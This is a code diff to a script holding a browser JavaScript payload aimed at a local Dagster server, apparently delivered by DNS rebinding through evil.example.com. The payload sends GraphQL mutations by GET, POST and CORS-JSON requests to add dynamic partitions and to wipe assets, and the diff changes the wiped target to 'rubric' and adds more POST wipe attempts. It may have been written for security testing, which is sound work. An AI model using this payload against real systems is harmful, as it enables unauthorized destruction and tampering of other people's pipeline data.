@@ -10,7 +10,7 @@ EVIL = "evil.example.com"  # the browser is told that this name is 127.0.0.1, as
 SCRIPT = """async (dagster) => {
   const add = way => `mutation { addDynamicPartition(partitionsDefName: "prompts", partitionKey: "${way}", `
     + 'repositorySelector: {repositoryName: "__repository__", repositoryLocationName: "datashop"}) { __typename } }';
-  const wipe = 'mutation { wipeAssets(assetPartitionRanges: [{assetKey: {path: ["data_card"]}}]) { __typename } }';
+  const wipe = 'mutation { wipeAssets(assetPartitionRanges: [{assetKey: {path: ["rubric"]}}]) { __typename } }';
   const asked = (way, query) => `${dagster}/graphql?query=${encodeURIComponent(query || add(way))}`;
   const body = (way, query) => JSON.stringify({query: query || add(way)});
   const tried = {};
@@ -20,6 +20,9 @@ SCRIPT = """async (dagster) => {
   };
   await fetched("get", asked("get"));
   await fetched("get-wipe", asked("get-wipe", wipe));
+  await fetched("post-wipe", `${dagster}/graphql`, {method: "POST", body: body("post-wipe", wipe)});
+  await fetched("json-wipe", `${dagster}/graphql`,
+    {method: "POST", mode: "cors", headers: {"Content-Type": "application/json"}, body: body("json-wipe", wipe)});
   await fetched("post-address", asked("post-address"), {method: "POST"});
   await fetched("post-text", `${dagster}/graphql`, {method: "POST", body: body("post-text")});
   await fetched("post-form", asked("post-form"), {method: "POST", body: new URLSearchParams({a: "b"})});
